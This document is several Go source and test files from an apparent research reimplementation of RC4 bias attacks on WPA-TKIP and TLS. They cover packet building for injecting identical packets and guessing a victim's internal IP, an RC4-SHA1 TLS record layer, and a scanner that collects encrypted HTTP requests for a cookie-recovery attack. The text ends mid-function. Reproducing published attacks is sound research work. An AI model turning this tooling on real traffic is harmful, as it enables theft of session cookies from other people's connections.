
// ParseTCP decodes a 20-byte TCP header.
func ParseTCP(b []byte) (TCP, error) {
	if len(b) < TCPSize {
		return TCP{}, ErrTruncated
	}
	if b[12]>>4 < 5 {
		return TCP{}, ErrHeaderLength
	}
	var h TCP
	h.SrcPort = binary.BigEndian.Uint16(b[0:2])
	h.DstPort = binary.BigEndian.Uint16(b[2:4])
	h.Seq = binary.BigEndian.Uint32(b[4:8])
	h.Ack = binary.BigEndian.Uint32(b[8:12])
	h.Flags = b[13]
	h.Window = binary.BigEndian.Uint16(b[14:16])
	return h, nil
}

// TCPHeaderLen validates and returns the header length the data-offset
// field declares: at least TCPSize and no longer than the input.
func TCPHeaderLen(b []byte) (int, error) {
	if len(b) < TCPSize {
		return 0, ErrTruncated
	}
	n := int(b[12]>>4) * 4
	if n < TCPSize || n > len(b) {
		return 0, ErrHeaderLength
	}
	return n, nil
}

// tcpChecksum computes the TCP checksum over pseudo-header, header (with
// its checksum field as currently set) and payload.
func tcpChecksum(tcpHdr []byte, srcIP, dstIP [4]byte, payload []byte) uint16 {
	pseudo := make([]byte, 0, 12+len(tcpHdr)+len(payload))
	pseudo = append(pseudo, srcIP[:]...)
	pseudo = append(pseudo, dstIP[:]...)
	pseudo = append(pseudo, 0, 6) // zero, protocol TCP
	var lenField [2]byte
	binary.BigEndian.PutUint16(lenField[:], uint16(len(tcpHdr)+len(payload)))
	pseudo = append(pseudo, lenField[:]...)
	pseudo = append(pseudo, tcpHdr...)
	pseudo = append(pseudo, payload...)
	return checksum.Internet(pseudo)
}

// VerifyTCPChecksum reports whether the TCP header+payload checksum is
// consistent with the pseudo-header — the pruning predicate for deriving
// the victim's internal IP and port (§5.3).
func VerifyTCPChecksum(tcpSegment []byte, srcIP, dstIP [4]byte) bool {
	if len(tcpSegment) < TCPSize {
		return false
	}
	return tcpChecksum(tcpSegment, srcIP, dstIP, nil) == 0
}

// MSDU assembles the full plaintext MSDU of Figure 2 (before MIC/ICV):
// LLC/SNAP, IPv4 header, TCP header, payload.
type MSDU struct {
	IP      IPv4
	TCP     TCP
	Payload []byte
}

// Marshal produces the MSDU bytes. The IP length field is filled in from
// the component sizes.
func (m MSDU) Marshal() []byte {
	m.IP.Protocol = 6
	m.IP.Length = uint16(IPv4Size + TCPSize + len(m.Payload))
	snap := LLCSNAP(0x0800)
	ip := m.IP.Marshal()
	tcp := m.TCP.Marshal(m.IP.SrcIP, m.IP.DstIP, m.Payload)
	out := make([]byte, 0, LLCSNAPSize+IPv4Size+TCPSize+len(m.Payload))
	out = append(out, snap[:]...)
	out = append(out, ip[:]...)
	out = append(out, tcp[:]...)
	out = append(out, m.Payload...)
	return out
}

// HeaderSize is the total size of LLC/SNAP + IP + TCP (48 bytes, §5.2).
const HeaderSize = LLCSNAPSize + IPv4Size + TCPSize
