package packet

import (
	"bytes"
	"testing"
	"testing/quick"

	"rc4break/internal/checksum"
)

func TestLLCSNAP(t *testing.T) {
	h := LLCSNAP(0x0800)
	want := []byte{0xaa, 0xaa, 0x03, 0x00, 0x00, 0x00, 0x08, 0x00}
	if !bytes.Equal(h[:], want) {
		t.Errorf("LLCSNAP = % x, want % x", h, want)
	}
}

func TestIPv4RoundTrip(t *testing.T) {
	h := IPv4{
		TTL:      64,
		Protocol: 6,
		SrcIP:    [4]byte{192, 168, 1, 100},
		DstIP:    [4]byte{93, 184, 216, 34},
		ID:       0x1234,
		Length:   47,
	}
	b := h.Marshal()
	if !checksum.InternetValid(b[:]) {
		t.Fatal("marshaled IPv4 header has invalid checksum")
	}
	got, err := ParseIPv4(b[:])
	if err != nil {
		t.Fatal(err)
	}
	if got != h {
		t.Errorf("round trip: got %+v want %+v", got, h)
	}
}

func TestIPv4ChecksumDetectsFieldChange(t *testing.T) {
	// The §5.3 pruning predicate: wrong guesses of internal IP or TTL break
	// the header checksum.
	h := IPv4{TTL: 64, Protocol: 6, SrcIP: [4]byte{10, 0, 0, 2}, DstIP: [4]byte{1, 2, 3, 4}, Length: 47}
	b := h.Marshal()
	b[8] = 63 // wrong TTL guess
	if checksum.InternetValid(b[:]) {
		t.Fatal("TTL change not detected")
	}
	b[8] = 64
	b[12] = 11 // wrong internal IP guess
	if checksum.InternetValid(b[:]) {
		t.Fatal("source IP change not detected")
	}
}

func TestParseIPv4Errors(t *testing.T) {
	if _, err := ParseIPv4(make([]byte, 10)); err == nil {
		t.Error("short header accepted")
	}
	bad := make([]byte, 20)
	bad[0] = 0x65 // version 6
	if _, err := ParseIPv4(bad); err == nil {
		t.Error("IPv6 version accepted")
	}
}

func TestTCPRoundTripAndChecksum(t *testing.T) {
	src := [4]byte{192, 168, 1, 100}
	dst := [4]byte{93, 184, 216, 34}
	h := TCP{SrcPort: 52100, DstPort: 80, Seq: 1000, Ack: 2000, Flags: 0x18, Window: 29200}
	payload := []byte("PAYLOAD") // the paper's 7-byte payload
	b := h.Marshal(src, dst, payload)

	got, err := ParseTCP(b[:])
	if err != nil {
		t.Fatal(err)
	}
	if got != h {
		t.Errorf("round trip: got %+v want %+v", got, h)
	}
	seg := append(b[:], payload...)
	if !VerifyTCPChecksum(seg, src, dst) {
		t.Fatal("valid TCP segment fails checksum")
	}
	seg[0] ^= 0xff // corrupt source port
	if VerifyTCPChecksum(seg, src, dst) {
		t.Fatal("corrupted source port passes checksum")
	}
}

func TestParseTCPShort(t *testing.T) {
	if _, err := ParseTCP(make([]byte, 19)); err == nil {
		t.Error("short TCP header accepted")
	}
	if VerifyTCPChecksum(make([]byte, 10), [4]byte{}, [4]byte{}) {
		t.Error("short segment verified")
	}
}

func TestMSDULayout(t *testing.T) {
	m := MSDU{
		IP:      IPv4{TTL: 64, SrcIP: [4]byte{10, 0, 0, 2}, DstIP: [4]byte{5, 6, 7, 8}, ID: 7},
		TCP:     TCP{SrcPort: 41000, DstPort: 80, Flags: 0x18},
		Payload: []byte("PAYLOAD"),
	}
	b := m.Marshal()
	if len(b) != HeaderSize+7 {
		t.Fatalf("MSDU length %d, want %d", len(b), HeaderSize+7)
	}
	// §5.2: headers total 48 bytes; with a 7-byte payload the MIC would
	// start at offset 55 (0-indexed) in the encrypted frame body.
	if HeaderSize != 48 {
		t.Fatalf("HeaderSize = %d, want 48", HeaderSize)
	}
	// Embedded IP header must checksum-verify in place.
	if !checksum.InternetValid(b[LLCSNAPSize : LLCSNAPSize+IPv4Size]) {
		t.Fatal("embedded IP header checksum invalid")
	}
	// Embedded TCP segment must verify against the pseudo-header.
	if !VerifyTCPChecksum(b[LLCSNAPSize+IPv4Size:], m.IP.SrcIP, m.IP.DstIP) {
		t.Fatal("embedded TCP checksum invalid")
	}
	// Length field covers IP+TCP+payload.
	ip, err := ParseIPv4(b[LLCSNAPSize:])
	if err != nil {
		t.Fatal(err)
	}
	if int(ip.Length) != IPv4Size+TCPSize+7 {
		t.Fatalf("IP length %d, want %d", ip.Length, IPv4Size+TCPSize+7)
	}
}

func TestMSDUDeterministic(t *testing.T) {
	// Identical packet injection (§5.2) relies on the MSDU serializing
	// identically every time.
	f := func(ttl byte, srcPort uint16, id uint16) bool {
		m := MSDU{
			IP:      IPv4{TTL: ttl, SrcIP: [4]byte{10, 0, 0, 9}, DstIP: [4]byte{1, 1, 1, 1}, ID: id},
			TCP:     TCP{SrcPort: srcPort, DstPort: 80, Flags: 0x18},
			Payload: []byte("PAYLOAD"),
		}
		return bytes.Equal(m.Marshal(), m.Marshal())
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}
