package tlsrec

import (
	"bytes"
	"testing"
)

func sealedStream(t *testing.T, payloads ...[]byte) ([]byte, [][]byte) {
	t.Helper()
	var kb KeyBlock
	kb.Key[0] = 9
	conn := NewConn(kb)
	var stream []byte
	var bodies [][]byte
	for _, p := range payloads {
		rec := conn.Seal(p)
		stream = append(stream, rec...)
		bodies = append(bodies, append([]byte{}, rec[HeaderSize:]...))
	}
	return stream, bodies
}

func TestScannerWholeStream(t *testing.T) {
	stream, want := sealedStream(t, []byte("first"), []byte("second record"), []byte("third"))
	var s Scanner
	var got [][]byte
	if err := s.Feed(stream, func(b []byte) {
		got = append(got, append([]byte{}, b...))
	}); err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 || s.Records != 3 {
		t.Fatalf("delivered %d records", len(got))
	}
	for i := range want {
		if !bytes.Equal(got[i], want[i]) {
			t.Fatalf("record %d differs", i)
		}
	}
}

func TestScannerByteAtATime(t *testing.T) {
	// Records must survive arbitrary fragmentation (TCP segment boundaries
	// are not record boundaries).
	stream, want := sealedStream(t, []byte("fragmented delivery"), []byte("x"))
	var s Scanner
	var got [][]byte
	for i := range stream {
		if err := s.Feed(stream[i:i+1], func(b []byte) {
			got = append(got, append([]byte{}, b...))
		}); err != nil {
			t.Fatal(err)
		}
	}
	if len(got) != 2 {
		t.Fatalf("delivered %d records", len(got))
	}
	if !bytes.Equal(got[0], want[0]) || !bytes.Equal(got[1], want[1]) {
		t.Fatal("fragmented records corrupted")
	}
}

func TestScannerSkipsNonApplicationData(t *testing.T) {
	// A handshake record interleaved in the stream is skipped, not
	// delivered.
	hs := []byte{22, 0x03, 0x03, 0x00, 0x04, 1, 2, 3, 4}
	stream, _ := sealedStream(t, []byte("app data"))
	full := append(append([]byte{}, hs...), stream...)
	var s Scanner
	var delivered int
	if err := s.Feed(full, func([]byte) { delivered++ }); err != nil {
		t.Fatal(err)
	}
	if delivered != 1 || s.Skipped != 1 {
		t.Fatalf("delivered=%d skipped=%d", delivered, s.Skipped)
	}
}

func TestScannerDesyncDetection(t *testing.T) {
	var s Scanner
	bogus := []byte{23, 0x03, 0x03, 0xff, 0xff} // length 65535 > max
	if err := s.Feed(bogus, func([]byte) {}); err != ErrRecordTooLarge {
		t.Fatalf("err = %v, want ErrRecordTooLarge", err)
	}
}

func TestCollectRequestsFiltersBySize(t *testing.T) {
	req := bytes.Repeat([]byte{'r'}, 100)
	resp := bytes.Repeat([]byte{'s'}, 40)
	stream, bodies := sealedStream(t, req, resp, req, req)
	want := len(bodies[0])
	c := &CollectRequests{WantLen: want}
	var got int
	if err := c.Feed(stream, func(b []byte) {
		if len(b) != want {
			t.Fatal("wrong-size body delivered")
		}
		got++
	}); err != nil {
		t.Fatal(err)
	}
	if got != 3 || c.Matched != 3 || c.Other != 1 {
		t.Fatalf("matched=%d other=%d", c.Matched, c.Other)
	}
}

func TestDrain(t *testing.T) {
	stream, bodies := sealedStream(t, bytes.Repeat([]byte{'q'}, 64))
	c := &CollectRequests{WantLen: len(bodies[0])}
	var got int
	if err := c.Drain(bytes.NewReader(stream), func([]byte) { got++ }); err != nil {
		t.Fatal(err)
	}
	if got != 1 {
		t.Fatalf("drained %d records", got)
	}
}

func TestScannerFeedsCookieAttack(t *testing.T) {
	// Integration with the §6 pipeline: scanner-extracted record bodies
	// line up with what ObserveRecord expects (the encrypted request at
	// fixed offsets).
	var kb KeyBlock
	kb.Key[3] = 7
	send := NewConn(kb)
	ref := NewConn(kb)
	payload := bytes.Repeat([]byte{'p'}, 200)
	stream := append([]byte{}, send.Seal(payload)...)
	stream = append(stream, send.Seal(payload)...)

	c := &CollectRequests{WantLen: len(payload) + MACSize}
	var observed [][]byte
	if err := c.Feed(stream, func(b []byte) {
		observed = append(observed, append([]byte{}, b...))
	}); err != nil {
		t.Fatal(err)
	}
	if len(observed) != 2 {
		t.Fatalf("got %d records", len(observed))
	}
	// The reference connection reproduces the same ciphertext stream, so
	// the scanner's bodies must decrypt to the original payload.
	for i, body := range observed {
		rec := make([]byte, HeaderSize+len(body))
		rec[0] = TypeApplicationData
		rec[1], rec[2] = 0x03, 0x03
		rec[3] = byte(len(body) >> 8)
		rec[4] = byte(len(body))
		copy(rec[HeaderSize:], body)
		got, err := ref.Open(rec)
		if err != nil {
			t.Fatalf("record %d: %v", i, err)
		}
		if !bytes.Equal(got, payload) {
			t.Fatalf("record %d: decrypted payload differs", i)
		}
	}
}

func TestScannerLargeChunkMatchesFragmentedDelivery(t *testing.T) {
	// Regression for the per-record compaction bug: one Feed carrying many
	// records must deliver exactly what fragmented feeding delivers, in the
	// same order, with identical counters.
	payloads := make([][]byte, 200)
	for i := range payloads {
		payloads[i] = bytes.Repeat([]byte{byte(i)}, 100+i%7)
	}
	stream, want := sealedStream(t, payloads...)
	// Interleave a couple of non-application records mid-stream.
	hs := []byte{22, 0x03, 0x03, 0x00, 0x02, 9, 9}
	full := append(append(append([]byte{}, hs...), stream...), hs...)

	var batch Scanner
	var batchGot [][]byte
	if err := batch.Feed(full, func(b []byte) {
		batchGot = append(batchGot, append([]byte{}, b...))
	}); err != nil {
		t.Fatal(err)
	}

	var frag Scanner
	var fragGot [][]byte
	for off := 0; off < len(full); off += 13 {
		end := off + 13
		if end > len(full) {
			end = len(full)
		}
		if err := frag.Feed(full[off:end], func(b []byte) {
			fragGot = append(fragGot, append([]byte{}, b...))
		}); err != nil {
			t.Fatal(err)
		}
	}

	if len(batchGot) != len(want) || len(fragGot) != len(want) {
		t.Fatalf("delivered batch=%d frag=%d want=%d", len(batchGot), len(fragGot), len(want))
	}
	for i := range want {
		if !bytes.Equal(batchGot[i], want[i]) || !bytes.Equal(fragGot[i], want[i]) {
			t.Fatalf("record %d differs between delivery modes", i)
		}
	}
	if batch.Records != frag.Records || batch.Skipped != frag.Skipped || batch.Skipped != 2 {
		t.Fatalf("counters differ: batch=(%d,%d) frag=(%d,%d)",
			batch.Records, batch.Skipped, frag.Records, frag.Skipped)
	}
	if len(batch.buf) != 0 || len(frag.buf) != 0 {
		t.Fatal("buffer not drained after complete records")
	}
}

func TestScannerDesyncRecovery(t *testing.T) {
	// After ErrRecordTooLarge the poisoned buffer is dropped: earlier
	// records stay delivered and counted, subsequent Feeds do not re-fail
	// on stale bytes, and a fresh record parses cleanly.
	good, want := sealedStream(t, []byte("before desync"))
	bogus := []byte{23, 0x03, 0x03, 0xff, 0xff, 1, 2, 3} // length 65535 > max

	var s Scanner
	var got [][]byte
	deliver := func(b []byte) { got = append(got, append([]byte{}, b...)) }
	if err := s.Feed(append(append([]byte{}, good...), bogus...), deliver); err != ErrRecordTooLarge {
		t.Fatalf("err = %v, want ErrRecordTooLarge", err)
	}
	if len(got) != 1 || !bytes.Equal(got[0], want[0]) || s.Records != 1 {
		t.Fatalf("pre-desync record lost: delivered=%d records=%d", len(got), s.Records)
	}

	// The next Feed starts from a clean buffer: a fresh, valid record is
	// delivered without error instead of re-failing on the stale header.
	good2, want2 := sealedStream(t, []byte("after desync"))
	if err := s.Feed(good2, deliver); err != nil {
		t.Fatalf("feed after desync: %v", err)
	}
	if len(got) != 2 || !bytes.Equal(got[1], want2[0]) || s.Records != 2 {
		t.Fatalf("post-desync record not delivered: delivered=%d records=%d", len(got), s.Records)
	}
}

func TestScannerZeroCopyAliasing(t *testing.T) {
	// The scanner's performance contract: a record wholly contained in one
	// Feed chunk is delivered as a view into that chunk — no copy. The
	// aliasing is observable, so it is pinned, not just hoped for.
	stream, want := sealedStream(t, []byte("aliased body"), []byte("second"))
	var s Scanner
	var views [][]byte
	if err := s.Feed(stream, func(b []byte) { views = append(views, b) }); err != nil {
		t.Fatal(err)
	}
	if len(views) != 2 {
		t.Fatalf("delivered %d records", len(views))
	}
	if &views[0][0] != &stream[HeaderSize] {
		t.Fatal("first record body was copied instead of aliased into the fed chunk")
	}
	second := HeaderSize + len(want[0]) + HeaderSize
	if &views[1][0] != &stream[second] {
		t.Fatal("second record body was copied instead of aliased into the fed chunk")
	}
}

func TestScannerViewValidUntilNextFeed(t *testing.T) {
	// The validity contract: a delivered view — including one assembled in
	// the scanner's own buffer from a split record — holds its bytes until
	// the next Feed/FeedBatch call, even though that next call may stash a
	// new partial record. The double-buffer swap inside scan is what makes
	// this true; this test is the regression pin for it.
	stream, want := sealedStream(t, []byte("split across feeds"), []byte("next partial"))
	split := HeaderSize + 5 // mid-body of record 0
	firstEnd := HeaderSize + len(want[0])

	var s Scanner
	var view []byte
	deliver := func(b []byte) { view = b }
	if err := s.Feed(stream[:split], deliver); err != nil {
		t.Fatal(err)
	}
	if view != nil {
		t.Fatal("partial record delivered early")
	}
	// This call completes record 0 in the scanner's buffer, delivers it,
	// and stashes the partial record 1 — which must not land on top of the
	// just-delivered view.
	if err := s.Feed(stream[split:firstEnd+HeaderSize+3], deliver); err != nil {
		t.Fatal(err)
	}
	if view == nil {
		t.Fatal("completed record not delivered")
	}
	if !bytes.Equal(view, want[0]) {
		t.Fatal("delivered view corrupted by the same call's tail stash")
	}
	// The next Feed completes the stashed record in the swapped-in buffer;
	// it too must deliver intact, proving the swap cycle is stable.
	if err := s.Feed(stream[firstEnd+HeaderSize+3:], deliver); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(view, want[1]) {
		t.Fatal("second record not delivered intact after the buffer swap")
	}
}

func TestCollectRequestsFeedBatchMatchesFeed(t *testing.T) {
	// FeedBatch is the batched face of CollectRequests: same records, same
	// counters, delivered as one slice of views per fed chunk.
	req := bytes.Repeat([]byte{'r'}, 100)
	resp := bytes.Repeat([]byte{'s'}, 40)
	stream, bodies := sealedStream(t, req, resp, req, resp, req)
	want := len(bodies[0])

	scalar := &CollectRequests{WantLen: want}
	var fromFeed [][]byte
	if err := scalar.Feed(stream, func(b []byte) {
		fromFeed = append(fromFeed, append([]byte{}, b...))
	}); err != nil {
		t.Fatal(err)
	}

	batched := &CollectRequests{WantLen: want}
	var fromBatch [][]byte
	var calls int
	if err := batched.FeedBatch(stream, func(views [][]byte) {
		calls++
		for _, b := range views {
			fromBatch = append(fromBatch, append([]byte{}, b...))
		}
	}); err != nil {
		t.Fatal(err)
	}
	if calls != 1 {
		t.Fatalf("one chunk of whole records delivered in %d calls, want 1", calls)
	}
	if len(fromBatch) != len(fromFeed) {
		t.Fatalf("FeedBatch delivered %d records, Feed delivered %d", len(fromBatch), len(fromFeed))
	}
	for i := range fromFeed {
		if !bytes.Equal(fromBatch[i], fromFeed[i]) {
			t.Fatalf("record %d differs between Feed and FeedBatch", i)
		}
	}
	if batched.Matched != scalar.Matched || batched.Other != scalar.Other {
		t.Fatalf("counters differ: batch=(%d,%d) scalar=(%d,%d)",
			batched.Matched, batched.Other, scalar.Matched, scalar.Other)
	}
}

func BenchmarkScannerFeedLargeChunk(b *testing.B) {
	// One Feed call carrying many complete records — the §6.3 collection
	// shape when a capture tool hands the scanner whole TCP segments.
	var kb KeyBlock
	kb.Key[0] = 9
	conn := NewConn(kb)
	var stream []byte
	const records = 1024
	body := bytes.Repeat([]byte{'r'}, 512)
	for i := 0; i < records; i++ {
		stream = append(stream, conn.Seal(body)...)
	}
	b.SetBytes(int64(len(stream)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var s Scanner
		if err := s.Feed(stream, func([]byte) {}); err != nil {
			b.Fatal(err)
		}
	}
}
