// Package tlsrec implements the TLS record protocol of §2.3 for the
// RC4-SHA1 cipher suite: application-data records carrying an HMAC-SHA1
// over a per-record sequence number, header and payload, with both payload
// and MAC encrypted by a connection-long RC4 instance whose initial
// keystream bytes are NOT discarded — the property every attack in the
// paper leans on.
//
// The implementation models one direction of a TLS 1.2 connection after the
// handshake: keys are derived from a 48-byte master secret with the TLS PRF
// (P_SHA256), records are sealed/opened with correct sequence-number
// semantics, and a persistent connection keeps one RC4 state across many
// HTTP requests — enabling the long-term (Fluhrer–McGrew, ABSAB) biases.
package tlsrec

import (
	"crypto/hmac"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/binary"
	"errors"

	"rc4break/internal/rc4"
)

// Record-protocol constants for the modeled RC4-SHA1 suite.
const (
	TypeApplicationData = 23
	VersionTLS12        = 0x0303
	MACSize             = sha1.Size // 20
	HeaderSize          = 5
	KeySize             = 16 // RC4_128
	MasterSecretSize    = 48
)

// PRF implements the TLS 1.2 pseudo-random function P_SHA256(secret,
// label ‖ seed) producing n bytes — used for the key block derivation.
func PRF(secret []byte, label string, seed []byte, n int) []byte {
	ls := append([]byte(label), seed...)
	out := make([]byte, 0, n)
	a := hmacSHA256(secret, ls)
	for len(out) < n {
		out = append(out, hmacSHA256(secret, append(a, ls...))...)
		a = hmacSHA256(secret, a)
	}
	return out[:n]
}

func hmacSHA256(key, msg []byte) []byte {
	h := hmac.New(sha256.New, key)
	h.Write(msg)
	return h.Sum(nil)
}

// KeyBlock holds one direction's record keys for RC4-SHA1.
type KeyBlock struct {
	MACKey [MACSize]byte
	Key    [KeySize]byte
}

// DeriveKeys expands the master secret into client and server key blocks,
// following the TLS 1.2 key block layout for an RC4-SHA1 suite (client MAC,
// server MAC, client key, server key; no IVs for a stream cipher).
func DeriveKeys(master []byte, clientRandom, serverRandom [32]byte) (client, server KeyBlock, err error) {
	if len(master) != MasterSecretSize {
		return client, server, errors.New("tlsrec: master secret must be 48 bytes")
	}
	seed := append(append([]byte{}, serverRandom[:]...), clientRandom[:]...)
	kb := PRF(master, "key expansion", seed, 2*MACSize+2*KeySize)
	copy(client.MACKey[:], kb[0:20])
	copy(server.MACKey[:], kb[20:40])
	copy(client.Key[:], kb[40:56])
	copy(server.Key[:], kb[56:72])
	return client, server, nil
}

// Conn is one direction of a TLS record connection using RC4-SHA1. The RC4
// state persists across records for the lifetime of the connection.
type Conn struct {
	cipher *rc4.Cipher
	macKey [MACSize]byte
	seq    uint64
}

// NewConn creates a sending or receiving record stream from a key block.
// RC4 is keyed once; none of the initial keystream is discarded (§2.3).
func NewConn(kb KeyBlock) *Conn {
	return &Conn{cipher: rc4.MustNew(kb.Key[:]), macKey: kb.MACKey}
}

// Seal encrypts one application-data record containing payload and returns
// the full wire record (header ‖ encrypted payload ‖ encrypted MAC).
func (c *Conn) Seal(payload []byte) []byte {
	mac := c.computeMAC(TypeApplicationData, payload)
	inner := make([]byte, 0, len(payload)+MACSize)
	inner = append(inner, payload...)
	inner = append(inner, mac...)

	rec := make([]byte, HeaderSize+len(inner))
	rec[0] = TypeApplicationData
	binary.BigEndian.PutUint16(rec[1:3], VersionTLS12)
	binary.BigEndian.PutUint16(rec[3:5], uint16(len(inner)))
	c.cipher.XORKeyStream(rec[HeaderSize:], inner)
	c.seq++
	return rec
}

// ErrMAC and ErrRecord are Open's failure modes.
var (
	ErrMAC    = errors.New("tlsrec: bad record MAC")
	ErrRecord = errors.New("tlsrec: malformed record")
)

// Open decrypts and verifies one record produced by the peer's Seal,
// returning the plaintext payload.
func (c *Conn) Open(rec []byte) ([]byte, error) {
	if len(rec) < HeaderSize+MACSize {
		return nil, ErrRecord
	}
	if rec[0] != TypeApplicationData || binary.BigEndian.Uint16(rec[1:3]) != VersionTLS12 {
		return nil, ErrRecord
	}
	length := int(binary.BigEndian.Uint16(rec[3:5]))
	if length != len(rec)-HeaderSize || length < MACSize {
		return nil, ErrRecord
	}
	inner := make([]byte, length)
	c.cipher.XORKeyStream(inner, rec[HeaderSize:])
	payload := inner[:length-MACSize]
	mac := inner[length-MACSize:]
	want := c.computeMAC(TypeApplicationData, payload)
	c.seq++
	if !hmac.Equal(mac, want) {
		return nil, ErrMAC
	}
	return payload, nil
}

// computeMAC is the TLS record MAC: HMAC-SHA1 over sequence number, type,
// version, length and payload.
func (c *Conn) computeMAC(typ byte, payload []byte) []byte {
	h := hmac.New(sha1.New, c.macKey[:])
	var pre [13]byte
	binary.BigEndian.PutUint64(pre[0:8], c.seq)
	pre[8] = typ
	binary.BigEndian.PutUint16(pre[9:11], VersionTLS12)
	binary.BigEndian.PutUint16(pre[11:13], uint16(len(payload)))
	h.Write(pre[:])
	h.Write(payload)
	return h.Sum(nil)
}

// Seq reports how many records have been processed — used by attack code
// to locate keystream offsets of a given record on a persistent connection.
func (c *Conn) Seq() uint64 { return c.seq }

// SkipRecords advances the connection as if n records of payloadLen bytes
// each had been sealed: the RC4 stream skips n·(payloadLen+MACSize) bytes
// and the sequence number advances by n. A resumed capture uses it to
// fast-forward a persistent connection past already-observed records
// without paying for HMAC or record assembly; the subsequent Seal output is
// byte-identical to an uninterrupted connection's.
func (c *Conn) SkipRecords(n uint64, payloadLen int) {
	// Skip in bounded chunks: n·recordLen at paper-scale resume counts
	// exceeds int32, so a single int conversion would wrap on 32-bit
	// platforms and silently desynchronize the stream.
	total := n * uint64(payloadLen+MACSize)
	const step = 1 << 30
	for total > 0 {
		s := total
		if s > step {
			s = step
		}
		c.cipher.Skip(int(s))
		total -= s
	}
	c.seq += n
}
