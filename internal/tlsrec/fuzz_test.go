package tlsrec

import (
	"bytes"
	"testing"
)

// FuzzScannerFeed hammers the §6.3 record scanner with arbitrary stream
// bytes split at an arbitrary chunk size: it must never panic, and the
// records it delivers must be invariant under re-chunking — the property
// the TCP reassembler's variable-size delivery leans on.
func FuzzScannerFeed(f *testing.F) {
	var rec bytes.Buffer
	rec.Write([]byte{TypeApplicationData, 3, 3, 0, 4, 'a', 'b', 'c', 'd'})
	rec.Write([]byte{22, 3, 3, 0, 2, 'h', 's'}) // a handshake record to skip
	f.Add(rec.Bytes(), uint16(3))
	f.Add([]byte{TypeApplicationData, 3, 3, 0xFF, 0xFF, 0}, uint16(1)) // oversized length
	f.Fuzz(func(t *testing.T, data []byte, chunk uint16) {
		whole := &Scanner{}
		var wholeOut bytes.Buffer
		wholeErr := whole.Feed(data, func(body []byte) {
			wholeOut.Write([]byte{byte(len(body) >> 8), byte(len(body))})
			wholeOut.Write(body)
		})

		chunked := &Scanner{}
		var chunkedOut bytes.Buffer
		var chunkedErr error
		step := int(chunk%1024) + 1
		for off := 0; off < len(data) && chunkedErr == nil; off += step {
			end := off + step
			if end > len(data) {
				end = len(data)
			}
			chunkedErr = chunked.Feed(data[off:end], func(body []byte) {
				chunkedOut.Write([]byte{byte(len(body) >> 8), byte(len(body))})
				chunkedOut.Write(body)
			})
		}
		// FeedBatch over the same chunking must deliver the same records —
		// the batched face is a view-collecting wrapper, never a different
		// parse.
		batched := &Scanner{}
		var batchedOut bytes.Buffer
		var batchedErr error
		for off := 0; off < len(data) && batchedErr == nil; off += step {
			end := off + step
			if end > len(data) {
				end = len(data)
			}
			batchedErr = batched.FeedBatch(data[off:end], func(bodies [][]byte) {
				for _, body := range bodies {
					batchedOut.Write([]byte{byte(len(body) >> 8), byte(len(body))})
					batchedOut.Write(body)
				}
			})
		}

		// Once a scanner hits the desync error the comparison is over (the
		// chunked ones may have delivered fewer records before it); short of
		// that, deliveries must be identical.
		if wholeErr == nil && chunkedErr == nil {
			if !bytes.Equal(wholeOut.Bytes(), chunkedOut.Bytes()) {
				t.Fatalf("chunked delivery (%d bytes) differs from whole-stream delivery (%d bytes) at step %d",
					chunkedOut.Len(), wholeOut.Len(), step)
			}
			if whole.Records != chunked.Records || whole.Skipped != chunked.Skipped {
				t.Fatalf("counters diverge: whole %d/%d, chunked %d/%d",
					whole.Records, whole.Skipped, chunked.Records, chunked.Skipped)
			}
		}
		if chunkedErr == nil && batchedErr == nil {
			if !bytes.Equal(chunkedOut.Bytes(), batchedOut.Bytes()) {
				t.Fatalf("FeedBatch delivery (%d bytes) differs from Feed delivery (%d bytes) at step %d",
					batchedOut.Len(), chunkedOut.Len(), step)
			}
			if batched.Records != chunked.Records || batched.Skipped != chunked.Skipped {
				t.Fatalf("batched counters diverge: feed %d/%d, batch %d/%d",
					chunked.Records, chunked.Skipped, batched.Records, batched.Skipped)
			}
		}
	})
}
