package tlsrec

import (
	"encoding/binary"
	"errors"
	"io"
)

// Scanner splits a raw TLS byte stream into records — the §6.3 collection
// tool's first stage ("this requires reassembling the TCP and TLS streams,
// and then detecting the 512-byte (encrypted) HTTP requests"). It tolerates
// records arriving fragmented across arbitrary read boundaries, skips
// non-application-data records (handshake, alerts, change-cipher-spec), and
// hands complete application-data record bodies to the caller.
type Scanner struct {
	// buf holds only the trailing partial record between Feed calls; spare
	// is the previous buf, kept so a record body delivered out of buf stays
	// valid while the next partial tail is stashed (the two arrays swap
	// roles, so a delivered view is never overwritten before the following
	// Feed call).
	buf   []byte
	spare []byte
	// batch is FeedBatch's view collector; it is scratch reused across
	// calls.
	batch [][]byte
	// Records and Skipped count application-data records delivered and
	// other record types passed over.
	Records uint64
	Skipped uint64
}

// ErrRecordTooLarge guards against desynchronized streams: TLS caps record
// payloads at 2^14 + 2048; anything larger means we lost framing. When Feed
// returns it, the scanner has discarded its entire buffer — the bytes after
// a bogus header are unframeable, and keeping them would make every
// subsequent Feed re-fail on the same stale data. Records delivered before
// the bad header stay delivered, and Records/Skipped keep counting them;
// the caller resynchronizes by feeding bytes from a fresh record boundary
// (typically after reopening the stream).
var ErrRecordTooLarge = errors.New("tlsrec: record length exceeds TLS maximum (stream desynchronized?)")

const maxRecordLen = 16384 + 2048

// Feed scans stream bytes and invokes deliver for every complete
// application-data record body (the encrypted payload ‖ MAC, without the
// 5-byte header) now available. Bodies are views, not copies: a record
// completed entirely within data is delivered as a slice of data itself,
// so bodies are only valid during the callback (the underlying packet or
// reassembly buffer is typically reused by the caller's next read).
//
// Zero-copy is what makes the scan free at line rate: only the trailing
// partial record is buffered between calls — at most one header plus
// maxRecordLen bytes — instead of every stream byte passing through an
// internal append+compact cycle.
func (s *Scanner) Feed(data []byte, deliver func(body []byte)) error {
	return s.scan(data, deliver)
}

// FeedBatch is Feed with batched delivery: all record bodies completed by
// this call are handed to deliver as one slice, in stream order. The views
// stay valid until the next Feed/FeedBatch call on this scanner — strictly
// longer than Feed's per-callback validity — because the scanner
// double-buffers its partial-record stash instead of overwriting the array
// a delivered body may alias. On ErrRecordTooLarge the records scanned
// before the bad header are still delivered (one deliver call, then the
// error).
func (s *Scanner) FeedBatch(data []byte, deliver func(bodies [][]byte)) error {
	s.batch = s.batch[:0]
	err := s.scan(data, func(body []byte) { s.batch = append(s.batch, body) })
	if len(s.batch) > 0 {
		deliver(s.batch)
	}
